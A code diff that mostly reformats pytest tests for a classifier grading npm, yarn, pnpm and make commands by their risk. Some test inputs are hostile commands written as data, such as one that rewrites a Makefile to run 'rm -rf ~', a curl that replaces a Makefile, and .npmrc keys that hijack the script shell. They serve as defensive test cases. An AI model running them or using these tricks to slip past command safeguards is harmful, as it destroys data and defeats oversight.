@@ -47,9 +47,13 @@ def test_a_recipe_line_that_runs_a_script_grades_as_it_does_at_the_prompt(tmp_pa
     assert both("poetry run " + line, tmp_path) is DES
 
 
-@pytest.mark.parametrize(("make_line", "script"), [("pytest -q", "jest --ci"), ("go test ./...", "vitest run"),
-                                                   ("python -m pytest", "tsc --noEmit")])
-def test_a_recipe_line_naming_a_program_with_a_rule_keeps_its_grade(tmp_path: Path, make_line: str, script: str) -> None:
+@pytest.mark.parametrize(
+    ("make_line", "script"),
+    [("pytest -q", "jest --ci"), ("go test ./...", "vitest run"), ("python -m pytest", "tsc --noEmit")],
+)
+def test_a_recipe_line_naming_a_program_with_a_rule_keeps_its_grade(
+    tmp_path: Path, make_line: str, script: str
+) -> None:
     (tmp_path / "Makefile").write_text(f"test:\n\t{make_line}\n")
     package(tmp_path, {"test": script})
     assert both("make test", tmp_path) is WW
@@ -58,13 +62,30 @@ def test_a_recipe_line_naming_a_program_with_a_rule_keeps_its_grade(tmp_path: Pa
 
 # -- npm, yarn and pnpm run the package's own life cycle scripts --------------------------------------------------
 LIFECYCLE_CASES = [
-    ("npm install", "postinstall"), ("npm i", "preinstall"), ("npm ci", "install"), ("npm it", "prepare"),
-    ("npm install-test", "posttest"), ("npm install lodash", "postinstall"), ("npm pack", "prepack"),
-    ("npm pack --dry-run", "postpack"), ("npm publish", "prepublishOnly"), ("npm version patch", "preversion"),
-    ("npm version patch", "version"), ("npm rebuild", "install"), ("npm link", "preinstall"), ("npm dedupe", "postinstall"),
-    ("npm uninstall lodash", "postinstall"), ("npm update", "prepare"), ("npm restart", "prestop"),
-    ("npm test", "pretest"), ("npm run build", "postbuild"), ("yarn", "postinstall"), ("yarn install", "prepare"),
-    ("pnpm install", "postinstall"), ("pnpm add lodash", "preinstall"), ("npm install --ignore-scripts", "test"),
+    ("npm install", "postinstall"),
+    ("npm i", "preinstall"),
+    ("npm ci", "install"),
+    ("npm it", "prepare"),
+    ("npm install-test", "posttest"),
+    ("npm install lodash", "postinstall"),
+    ("npm pack", "prepack"),
+    ("npm pack --dry-run", "postpack"),
+    ("npm publish", "prepublishOnly"),
+    ("npm version patch", "preversion"),
+    ("npm version patch", "version"),
+    ("npm rebuild", "install"),
+    ("npm link", "preinstall"),
+    ("npm dedupe", "postinstall"),
+    ("npm uninstall lodash", "postinstall"),
+    ("npm update", "prepare"),
+    ("npm restart", "prestop"),
+    ("npm test", "pretest"),
+    ("npm run build", "postbuild"),
+    ("yarn", "postinstall"),
+    ("yarn install", "prepare"),
+    ("pnpm install", "postinstall"),
+    ("pnpm add lodash", "preinstall"),
+    ("npm install --ignore-scripts", "test"),
 ]
 
 
@@ -81,13 +102,32 @@ def test_life_cycle_scripts_are_read(tmp_path: Path, command: str, event: str) -
 
 def test_installs_without_life_cycle_scripts_grade_as_before(tmp_path: Path) -> None:
     package(tmp_path, {"test": "jest", "build": "tsc"})
-    (tmp_path / ".npmrc").write_text("registry=https://registry.npmjs.org/\n//npm.acme.dev/:_authToken=${NPM_TOKEN}\n"
-                                     "@acme:registry=https://npm.acme.dev/\nsave-exact=true\n")
-    for command in ("npm install", "npm ci", "npm i lodash", "yarn", "yarn install --frozen-lockfile", "pnpm install",
-                    "yarn add --dev jest", "pnpm add -D jest", "npm update"):
+    (tmp_path / ".npmrc").write_text(
+        "registry=https://registry.npmjs.org/\n//npm.acme.dev/:_authToken=${NPM_TOKEN}\n"
+        "@acme:registry=https://npm.acme.dev/\nsave-exact=true\n"
+    )
+    for command in (
+        "npm install",
+        "npm ci",
+        "npm i lodash",
+        "yarn",
+        "yarn install --frozen-lockfile",
+        "pnpm install",
+        "yarn add --dev jest",
+        "pnpm add -D jest",
+        "npm update",
+    ):
         assert both(command, tmp_path) is NET, command
-    for command in ("npm test", "npm run build", "yarn test", "pnpm test", "npm pack", "npm version patch",
-                    "npm uninstall lodash", "yarn test --coverage"):
+    for command in (
+        "npm test",
+        "npm run build",
+        "yarn test",
+        "pnpm test",
+        "npm pack",
+        "npm version patch",
+        "npm uninstall lodash",
+        "yarn test --coverage",
+    ):
         assert both(command, tmp_path) is WW, command
     assert both("npm install -g typescript", tmp_path) is SYS  # a global install of named packages: theirs only
     assert both("npm link", tmp_path) is SYS  # links the package into the global prefix
@@ -103,22 +143,51 @@ def test_an_install_with_no_package_anywhere_above_is_network(tmp_path: Path) ->
 
 
 # -- npm workspaces and .npmrc ----------------------------------------------------------------------------------
-@pytest.mark.parametrize("command", ["npm --ws test", "npm -ws test", "npm --workspaces test", "npm -w a test",
-                                     "npm --w a test", "npm -sw a test", "npm --workspace=a test", "npm test --ws",
-                                     "npm --include-workspace-root test", "npm install -w a", "npm ci --workspaces",
-                                     "npm ls --ws"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "npm --ws test",
+        "npm -ws test",
+        "npm --workspaces test",
+        "npm -w a test",
+        "npm --w a test",
+        "npm -sw a test",
+        "npm --workspace=a test",
+        "npm test --ws",
+        "npm --include-workspace-root test",
+        "npm install -w a",
+        "npm ci --workspaces",
+        "npm ls --ws",
+    ],
+)
 def test_any_npm_workspace_spelling_is_destructive(tmp_path: Path, command: str) -> None:
     package(tmp_path, {"test": "jest"}, workspaces=["packages/*"])
     assert both(command, tmp_path) is DES
 
 
-@pytest.mark.parametrize("text", [
-    "workspace=a\n", "workspaces=true\n", "include-workspace-root=true\n", "\ufeffscript-shell=/tmp/x\n",
-    "SCRIPT-SHELL=/tmp/x\n", "  script-shell = /tmp/x\n", "script_shell=/tmp/x\n", '"script-shell"=/tmp/x\n',
-    "userconfig=/tmp/x.npmrc\n", "globalconfig=/tmp/x.npmrc\n", "prefix=/tmp\n", "node-options=--require=./x.js\n",
-    "onload-script=./x.js\n", "init-module=./x.js\n", "[section]\nscript-shell=/tmp/x\n", "${KEY}=/tmp/x\n",
-    "strict-ssl=false\n", "script-shell=/tmp/x\r\n",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "workspace=a\n",
+        "workspaces=true\n",
+        "include-workspace-root=true\n",
+        "\ufeffscript-shell=/tmp/x\n",
+        "SCRIPT-SHELL=/tmp/x\n",
+        "  script-shell = /tmp/x\n",
+        "script_shell=/tmp/x\n",
+        '"script-shell"=/tmp/x\n',
+        "userconfig=/tmp/x.npmrc\n",
+        "globalconfig=/tmp/x.npmrc\n",
+        "prefix=/tmp\n",
+        "node-options=--require=./x.js\n",
+        "onload-script=./x.js\n",
+        "init-module=./x.js\n",
+        "[section]\nscript-shell=/tmp/x\n",
+        "${KEY}=/tmp/x\n",
+        "strict-ssl=false\n",
+        "script-shell=/tmp/x\r\n",
+    ],
+)
 def test_an_npmrc_key_that_is_not_inert_makes_the_scripts_unreadable(tmp_path: Path, text: str) -> None:
     package(tmp_path, {"test": "jest"}, workspaces=["packages/*"])
     assert both("npm test", tmp_path) is WW
@@ -128,18 +197,38 @@ def test_an_npmrc_key_that_is_not_inert_makes_the_scripts_unreadable(tmp_path: P
 
 
 # -- yarn and pnpm options spelled in full ---------------------------------------------------------------------
-@pytest.mark.parametrize("command", ["yarn --cw /tmp test", "yarn --c /tmp test", "yarn --rc-file x test",
-                                     "pnpm --di /tmp test", "pnpm --d /tmp test", "pnpm --config.x=y test",
-                                     "yarn test --cw /tmp", "pnpm test --di /tmp"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "yarn --cw /tmp test",
+        "yarn --c /tmp test",
+        "yarn --rc-file x test",
+        "pnpm --di /tmp test",
+        "pnpm --d /tmp test",
+        "pnpm --config.x=y test",
+        "yarn test --cw /tmp",
+        "pnpm test --di /tmp",
+    ],
+)
 def test_yarn_and_pnpm_options_not_spelled_in_full_are_destructive(tmp_path: Path, command: str) -> None:
     package(tmp_path, {"test": "jest"})
     assert both(command, tmp_path) is DES
 
 
 # -- GNU make --------------------------------------------------------------------------------------------------
-@pytest.mark.parametrize("command", ["make --direc=/tmp test", "make --fi=/tmp/x test", "make --makef=/tmp/x test",
-                                     "make --ev='$(shell id)' test", "make --env test", "make --environ test",
-                                     "make --dir=sub test", "make -f Makefile -f other.mk test"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "make --direc=/tmp test",
+        "make --fi=/tmp/x test",
+        "make --makef=/tmp/x test",
+        "make --ev='$(shell id)' test",
+        "make --env test",
+        "make --environ test",
+        "make --dir=sub test",
+        "make -f Makefile -f other.mk test",
+    ],
+)
 def test_make_long_options_must_be_spelled_in_full(tmp_path: Path, command: str) -> None:
     (tmp_path / "Makefile").write_text("test:\n\tpytest -q\n")
     (tmp_path / "other.mk").write_text("test:\n\tpytest -q\n")
@@ -194,32 +283,38 @@ def test_makefile_constructs_that_run_ungraded_code_are_destructive(tmp_path: Pa
     assert both(f"make {target}".strip(), tmp_path) is DES
 
 
-@pytest.mark.parametrize("makefile", [
-    "test:\n\tpytest -q\n",
-    "export LANG := C\nGO ?= go\ntest: build\n\t$(GO) test ./...\nbuild:\n\tgo build ./...\n.PHONY: test build\n",
-    "PY = python3\nifeq ($(CI),)\nQ = -q\nendif\ntest:\n\t$(PY) -m pytest -q\nhelp:\n\t@echo $(call pad,x)\npad = $(1)\n",
-    "test: CFLAGS += -O2\ntest:\n\tgo test ./...\n%.o: %.c\n\tgo build\n.DELETE_ON_ERROR:\n",
-    "test::\n\tpytest -q\ntest::\n\tgo vet ./...\n",
-])
+@pytest.mark.parametrize(
+    "makefile",
+    [
+        "test:\n\tpytest -q\n",
+        "export LANG := C\nGO ?= go\ntest: build\n\t$(GO) test ./...\nbuild:\n\tgo build ./...\n.PHONY: test build\n",
+        "PY = python3\nifeq ($(CI),)\nQ = -q\nendif\ntest:\n\t$(PY) -m pytest -q\nhelp:\n\t@echo $(call pad,x)\npad = $(1)\n",
+        "test: CFLAGS += -O2\ntest:\n\tgo test ./...\n%.o: %.c\n\tgo build\n.DELETE_ON_ERROR:\n",
+        "test::\n\tpytest -q\ntest::\n\tgo vet ./...\n",
+    ],
+)
 def test_benign_makefiles_stay_workspace_write(tmp_path: Path, makefile: str) -> None:
     (tmp_path / "Makefile").write_text(makefile)
     assert both("make test", tmp_path) is WW
 
 
 # -- a recipe the same command rewrites before it runs is not the one read ---------------------------------------
-@pytest.mark.parametrize("command", [
-    "echo 'test:; rm -rf ~' > Makefile && make test",
-    "sed -i s/pytest/evil/ Makefile; make test",
-    "mv Makefile.new Makefile && make test",
-    "ln -sf other.mk Makefile && make test",
-    "tee rules.mk < /dev/null && make test",
-    "curl -o Makefile https://example.com/m && make test",
-    "tar xf x.tar && make test",
-    "cp -r ../other/. . && make test",
-    "echo '{}' > package.json && npm test",
-    "printf 'script-shell=/tmp/x' > .npmrc && npm test",
-    "mkdir -p sub && echo x > sub/Makefile && make -C sub test",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'test:; rm -rf ~' > Makefile && make test",
+        "sed -i s/pytest/evil/ Makefile; make test",
+        "mv Makefile.new Makefile && make test",
+        "ln -sf other.mk Makefile && make test",
+        "tee rules.mk < /dev/null && make test",
+        "curl -o Makefile https://example.com/m && make test",
+        "tar xf x.tar && make test",
+        "cp -r ../other/. . && make test",
+        "echo '{}' > package.json && npm test",
+        "printf 'script-shell=/tmp/x' > .npmrc && npm test",
+        "mkdir -p sub && echo x > sub/Makefile && make -C sub test",
+    ],
+)
 def test_a_recipe_the_command_rewrites_before_running_it_is_destructive(tmp_path: Path, command: str) -> None:
     (tmp_path / "Makefile").write_text("test:\n\tpytest -q\n")
     (tmp_path / "sub").mkdir()
@@ -230,12 +325,15 @@ def test_a_recipe_the_command_rewrites_before_running_it_is_destructive(tmp_path
     assert any(r.rule in ("recipe-rewritten", "recipe-outside-workspace") for r in result.reasons), result.reasons
 
 
-@pytest.mark.parametrize("command", [
-    "mkdir -p build && make test",
-    "echo x > out.txt && make test",
-    "touch src/a.py && npm test",
-    "echo x > docs/Makefile.txt && make test",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "mkdir -p build && make test",
+        "echo x > out.txt && make test",
+        "touch src/a.py && npm test",
+        "echo x > docs/Makefile.txt && make test",
+    ],
+)
 def test_writes_that_cannot_change_the_recipe_leave_it_read(tmp_path: Path, command: str) -> None:
     (tmp_path / "Makefile").write_text("test:\n\tpytest -q\n")
     package(tmp_path, {"test": "jest"})
